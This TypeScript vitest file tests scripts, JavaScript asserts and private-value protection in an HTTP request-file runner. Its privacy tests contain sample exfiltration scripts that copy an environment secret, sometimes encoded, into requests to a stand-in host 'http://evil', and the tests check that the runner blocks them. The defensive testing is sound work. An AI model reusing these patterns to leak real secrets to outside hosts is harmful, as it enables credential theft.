import { refused } from '../../../../packages/sender/src/refusal';
import { beforeAll, describe, expect, it } from 'vitest';
import { createEngine } from '../../../../packages/engine/src/index';
import { describeOutcome, type Outcome } from '../../../../packages/sender/src/outcome/index';
import {
  withoutScripts,
  type PreparedRequest,
  type ReceivedResponse,
} from '../../../../packages/sender/src/plan/index';
import { evaluateAsserts } from '../../../../packages/sender/src/asserts/index';
import type { RunScript } from '../../../../packages/sender/src/scripts/index';
import {
  createKeptValues,
  createNamedResponses,
  definitionLayer,
  resolveIn,
  withSharedValues,
} from '../../../../packages/sender/src/variables/index';
import { bodyFile } from '../../../../packages/platform/src/body-file';
import type { TransportPort } from '../../../../packages/sender/src/ports/index';
import { senderOf, type Situation } from '../../../sender-ports';
import { loadScriptBox } from '../../../script-engine';

const engine = createEngine();
let run: RunScript;
beforeAll(async () => {
  run = (await loadScriptBox()).run;
});

interface Given extends Situation {
  readonly process?: Readonly<Record<string, string>>;
  readonly body?: string;
  readonly status?: number;
  readonly files?: Readonly<Record<string, string>>;
  readonly scripts?: boolean;
}

/** Sends all requests of a text to a service that gives the same response, and returns what went out and what became of it. */
async function sendAll(text: string, situation: Given = {}) {
  const {
    process = {},
    body = '{"token":"tok-12345","id":7}',
    status = 200,
    files = {},
    scripts = true,
    ...more
  } = situation;
  const requests: PreparedRequest[] = [];
  const outcomes: Outcome[] = [];
  const pauses: number[] = [];
  const response: ReceivedResponse = {
    ...{ status, statusText: 'OK', httpVersion: '1.1', headers: [['Content-Type', 'application/json']] as const, body },
    ...{ duration: 1, size: body.length, isTruncated: false },
  };
  const answers = createNamedResponses();
  const file = engine.openFile(text);
  const sender = senderOf({
    answers,
    resolve: resolveIn([definitionLayer(text)]),
    system: { now: () => 1_000, guid: () => '', random: () => 0.5, environment: (name) => process[name] },
    readFile: (path) =>
      Promise.resolve(
        files[path] === undefined ? refused(`no ${path}`) : bodyFile(new TextEncoder().encode(files[path]), path),
      ),
    askForValues: (names) => Promise.resolve(refused(`no value of ${names.join(', ')}`)),
    send: (request, { pause = 0 }) => {
      requests.push(request);
      pauses.push(pause);
      return Promise.resolve({ response });
    },
    ...(scripts && { scriptBox: () => Promise.resolve(run) }),
    ...more,
  });
  for (const plan of engine.planAll(file, { context: { endpoints: [], defaults: {} }, severities: {} })) {
    outcomes.push(await sender.send(scripts ? plan : withoutScripts(plan)));
  }
  return {
    ...{ outcomes, pauses, answers },
    lines: requests.map(({ method, url }) => `${method} ${url}`),
    requests,
    described: outcomes.map((one) => {
      const { verdict, reason, results, log } = describeOutcome(one);
      return [verdict, reason, ...results, ...(log ?? [])].filter((part) => part !== undefined);
    }),
  };
}

describe('scripts of a file', () => {
  it('log in, keep the token, and use it', async () => {
    const { requests, described } = await sendAll(
      'POST http://h/login\n\n> {% client.global.set("t", response.body.token) %}\n\n###\nGET http://h/me\nAuthorization: Bearer {{t}}\n',
    );
    expect(requests[1]?.headers[0]).toEqual(['Authorization', 'Bearer tok-12345']);
    expect(described).toEqual([['passed'], ['passed']]);
  });

  it('set what their own request needs, for it alone', async () => {
    const text =
      '@host = http://h\n\n< {% request.variables.set("n", request.environment.get("host").length) %}\nGET {{host}}/{{n}}\n\n###\nGET {{host}}/{{n}}\n';
    const { lines, described } = await sendAll(text);
    expect(lines).toEqual(['GET http://h/8']);
    expect(described[1]).toEqual(['error', 'no value of n']);
  });

  it('are tests of their request', async () => {
    const text =
      'GET http://h/\n\n> {%\n  client.test("ok", () => { client.assert(response.status === 404) });\n  client.test("id", () => { client.assert(response.body.id === 8, "id is " + response.body.id) });\n  client.log("done");\n%}\n';
    expect((await sendAll(text, { status: 404 })).described).toEqual([
      ['failed', 'Passed: ok', 'FAILED: id (line 5): id is 7', 'Log: done'],
    ]);
    const status = 'GET http://h/\n\n> {% client.test("ok", () => { client.assert(response.status === 404) }) %}\n';
    expect((await sendAll(status, { status: 404 })).described).toEqual([['passed', 'Passed: ok']]);
    expect((await sendAll(status)).described[0]?.[0]).toBe('failed');
  });

  it('keep a request from going out when the one before it fails, and are an error behind it', async () => {
    const text = '< {%\n  foo();\n%}\nGET http://h/\n\n###\nGET http://h/2\n\n> {% bar(); %}\n';
    const { lines, described } = await sendAll(text);
    expect(lines).toEqual(['GET http://h/2']);
    expect(described).toEqual([
      ['error', "the script before it has failed (line 2, column 3): ReferenceError: 'foo' is not defined."],
      ['failed', "ERROR: Script (line 9): ReferenceError: 'bar' is not defined. (line 9, column 6)"],
    ]);
  });

  it('say one sentence of what the box has ended', async () => {
    const { described } = await sendAll('< {% while (true) {} %}\nGET http://h/\n');
    expect(described[0]?.[1]).toBe(
      'the script before it has failed (line 1): The script does not end: it has used up its steps.',
    );
  });

  it('are in files, too', async () => {
    const text = '< ./before.js\nGET http://h/{{a}}\n\n> ./none.js\n';
    const { lines, described } = await sendAll(text, { files: { './before.js': 'request.variables.set("a", 1)' } });
    expect(lines).toEqual(['GET http://h/1']);
    expect(described).toEqual([['failed', 'ERROR: Script (line 4): No ./none.js. (./none.js)']]);
  });

  it('are blocks of httpYac: before, behind, for all requests, and in regions without a request', async () => {
    const text =
      '{{\n  exports.base = "http://h";\n}}\n\n###\n{{\n  await sleep(40);\n  exports.n = (typeof n === "undefined" ? 0 : n) + 1;\n}}\nGET {{base}}/{{n}}\n\n{{\n  exports.id = response.parsedBody.id;\n}}\n\n###\n{{@response\n  test.status(200);\n}}\nGET {{base}}/{{id}}/{{n}}\n\n{{+\n  console.log("each");\n}}\n';
    const { lines, pauses, described } = await sendAll(text);
    expect(lines).toEqual(['GET http://h/1', 'GET http://h/7/1']);
    expect(pauses).toEqual([40, 0]);
    expect(described).toEqual([
      ['passed', 'Log: each'],
      ['passed', 'Passed: status == 200', 'Log: each'],
    ]);
  });

  it('are left out where none are run, and are named then', async () => {
    const { lines, outcomes } = await sendAll('< {% x %}\nGET http://h/\n\n> {% y %}\n', { scripts: false });
    expect(lines).toEqual(['GET http://h/']);
    expect(outcomes[0]?.plan.leftOut).toEqual([
      { what: 'the script before the request', line: 0 },
      { what: 'the script after the request', line: 3 },
    ]);
  });
});

describe('an assert in JavaScript', () => {
  const judged: Situation = { evaluateAsserts };
  const resultsOf = async (asserts: string, situation: Given = {}) =>
    (await sendAll(`GET http://h/\n\n${asserts}\n`, { ...judged, ...situation })).described[0];

  it('is evaluated with the response and the variables', async () => {
    const asserts = [
      '?? js response.parsedBody.token.split("-").length == 2',
      '?? js response.parsedBody.id > 6 && response.statusCode < 300',
      '?? js [response.status, "a == b"] == [200, "a == b"]',
      '?? js value + 1 == 6',
      '?? js response.parsedBody.none not exists',
      '?? js Promise.resolve("x") == x',
      '?? js test.status(500) isFalse',
    ];
    const results = await resultsOf(`${asserts.join('\n')}\n\n{{\n  exports.value = 5;\n}}\n`);
    expect(results).toEqual(['passed', ...asserts.map((assert) => `Passed: ${assert}`)]);
    expect(
      await resultsOf('?? js response.parsedBody.id > 6 && true\n?? js response.parsedBody.id\n?? js !response'),
    ).toEqual([
      'failed',
      expect.anything(),
      'Passed: ?? js response.parsedBody.id',
      expect.stringContaining('Expected a true value, received false'),
    ]);
  });

  it('says what is wrong with it, and keeps nothing', async () => {
    expect(await resultsOf('?? js nothing.there == 1\n?? js process.exit(1)\n?? js 1 + + == 2')).toEqual([
      'failed',
      "ERROR: ?? js nothing.there == 1 (line 3): ReferenceError: 'nothing' is not defined.",
      "ERROR: ?? js process.exit(1) (line 4): ReferenceError: 'process' is not defined.",
      expect.stringMatching(/^ERROR: .* \(line 5\): The script cannot be read: .*[^.]\.$/),
    ]);
    const { answers } = await sendAll(
      'GET http://h/\n\n?? js (exports.a = 5) == 5\n?? js 1)); client.global.set("b", 1); ((1\n',
      judged,
    );
    expect([...answers.kept.entries().keys()]).toEqual([]);
    expect(await resultsOf('?? js 1 + 1 == 2', { scripts: false, scriptBox: undefined })).toEqual([
      'failed',
      'ERROR: ?? js 1 + 1 == 2 (line 3): No scripts are run here, and this expression is JavaScript.',
    ]);
  });

  it('shows no secret', async () => {
    const results = await resultsOf('?? js response.parsedBody.token + "" == x\n?? js $global.key == x', {
      process: { KEY: 'canary-1-long' },
    });
    expect(JSON.stringify(results)).not.toMatch(/tok-12345/);
  });

  it('is what a request is sent again for', async () => {
    let sent = 0;
    const send: TransportPort['send'] = () => {
      sent++;
      const body = `{"n":${sent}}`;
      const headers = [['Content-Type', 'application/json']] as const;
      const response = { status: 200, statusText: 'OK', httpVersion: '1.1', headers, body, duration: 1 };
      return Promise.resolve({ response: { ...response, size: body.length, isTruncated: false } });
    };
    const { described } = await sendAll('# @until js response.parsedBody.n * 2 == 6 every 100 ms\nGET http://h/\n', {
      ...judged,
      send,
    });
    expect([sent, described[0]?.[0]]).toEqual([3, 'passed']);
  });
});

describe('a private value', () => {
  const asked = (what: string) => `${what}?`;
  const guarded: Situation = {
    privateWays: {
      isAllowed: (_source, way) => way.includes('http://own'),
      ask: ({ what }) => Promise.resolve(refused(asked(what))),
    },
  };

  it('stays private when a script copies it', async () => {
    const copies = [
      'client.global.set("c", request.variables.get("$processEnv KEY"))',
      'const key = request.environment.get("$processEnv KEY"); client.global.set("c", btoa(key))',
      'client.global.set("c", crypto.sha256().updateWithText(request.variables.get("$processEnv KEY")).digest().toHex())',
      'let c = "x"; try { c = request.variables.get("$processEnv KEY") } catch {} client.global.set("c", c.length)',
      'Set.prototype.add = () => {}; Set.prototype.has = () => false; client.global.set("c", request.variables.get("$processEnv KEY"))',
    ];
    for (const copy of copies) {
      const text = `< {% ${copy} %}\nGET http://h/\n\n###\nGET http://evil/{{c}}\n`;
      const { lines, described } = await sendAll(text, { ...guarded, process: { KEY: 'canary-1' } });
      expect([copy, lines.filter((line) => line.includes('evil'))]).toEqual([copy, []]);
      expect([copy, described[1]?.[1]]).toEqual([copy, expect.stringContaining('the environment variable KEY')]);
    }
  });

  it('stays private when a script reads it from the request that was sent, or from what another script has kept', async () => {
    const text =
      '< {% client.global.set("c", request.variables.get("$processEnv KEY")) %}\nGET http://own/{{c}}\n\n> {% client.global.set("d", request.url()); client.global.set("e", client.global.get("c")) %}\n\n###\nGET http://evil/{{d}}\n\n###\nGET http://evil/{{e}}\n\n###\nGET http://evil/{{f}}\n< {% client.global.set("f", client.global.c + "") %}\n';
    const { lines } = await sendAll(text, { ...guarded, process: { KEY: 'canary-1' } });
    expect(lines).toEqual(['GET http://own/canary-1']);
  });

  it('does not go where a script sends the request instead', async () => {
    const text =
      '< {% request.variables.set("host", "http://evil") %}\nGET {{host}}/\nX-Key: {{$processEnv KEY}}\n\n###\n@base = http://own\n< {% client.global.set("base", "http://evil") %}\nGET {{base}}/\nX-Key: {{$processEnv KEY}}\n';
    const { lines, described } = await sendAll(text, { ...guarded, process: { KEY: 'canary-1' } });
    expect(lines).toEqual([]);
    for (const one of described) expect(one[1]).toContain('the environment variable KEY');
  });

  it('is masked in logs, tests and mistakes', async () => {
    const text =
      '< {% const key = request.variables.get("$processEnv KEY"); client.log(key, btoa(key)); client.test(key, () => { throw new Error(key) }); %}\nGET http://own/\n\n> {% throw new Error(response.body.token + request.variables.get("$processEnv KEY")) %}\n';
    const { described } = await sendAll(text, { ...guarded, process: { KEY: 'canary-1-long' } });
    expect(JSON.stringify(described)).not.toMatch(/canary|tok-12345|Y2FuYXJ5/);
  });

  it('does not make public what a response holds anyway', async () => {
    const text =
      'GET http://own/{{$processEnv KEY}}\n\n> {% client.global.set("t", response.body.id) %}\n\n###\nGET http://other/{{t}}\n';
    const { lines } = await sendAll(text, { ...guarded, process: { KEY: 'k' } });
    expect(lines).toEqual(['GET http://own/k', 'GET http://other/7']);
  });
});

describe('what scripts of other files have kept', () => {
  const value = { json: '"x"', text: 'x', uses: [], isSecret: false };

  it('counts where nothing else gives the variable a value', () => {
    const shared = createKeptValues();
    createKeptValues(shared).set('token', value);
    const other = createNamedResponses(createKeptValues(shared));
    expect(other.resolve('token')).toBeUndefined();
    expect(withSharedValues(other, shared, () => undefined).resolve('token')).toBe('x');
    expect(withSharedValues(other, shared, () => ({ value: 'own', isSecret: false })).resolve('token')).toBeUndefined();
    expect(other.kept.get('token')).toEqual(value);
    other.kept.clear('token');
    expect(shared.get('token')).toBeUndefined();
  });

  it('has members', () => {
    const kept = createKeptValues();
    kept.set('user', { ...value, json: '{"name":"Ann","ids":[3]}', text: '{"name":"Ann","ids":[3]}' });
    expect([
      kept.resolve('user.name'),
      kept.resolve('user.ids[0]'),
      kept.resolve('$global.user.name'),
      kept.resolve('user.none'),
      kept.resolve('none'),
    ]).toEqual(['Ann', '3', 'Ann', undefined, undefined]);
  });
});
